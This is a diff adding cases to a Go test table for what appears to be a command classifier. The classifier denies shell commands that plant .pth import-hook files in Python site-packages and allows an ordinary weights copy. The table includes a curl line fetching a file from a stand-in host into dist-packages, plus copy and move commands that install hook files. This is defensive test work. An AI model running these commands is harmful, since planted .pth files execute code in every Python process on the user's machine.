@@ -24,6 +24,9 @@ var classTests14Allow = []classTest{
 	{"pth-site-only", `cd "$(python -m site --user-site)" && echo 'import os' > x.pth`, Deny},
 	{"pth-site-only", "cp hook.pth `python3 -m site --user-site`/h.pth", Deny},
 	{"pth-site-only", `curl -so /usr/lib/python3/dist-packages/x.pth https://x.example/p`, Deny},
+	{"pth-site-only", `mv hook.pth "$VIRTUAL_ENV/lib/python3.12/site-packages/"`, Deny},
+	{"pth-site-only", `cp -t "$(python3 -m site --user-site)" h.pth`, Deny},
+	{"pth-site-only", `cp runs/best.pth weights/`, Allow},
 
 	// A directory named ~ (./~, a/~) is not the home directory: only a
 	// leading ~ is.
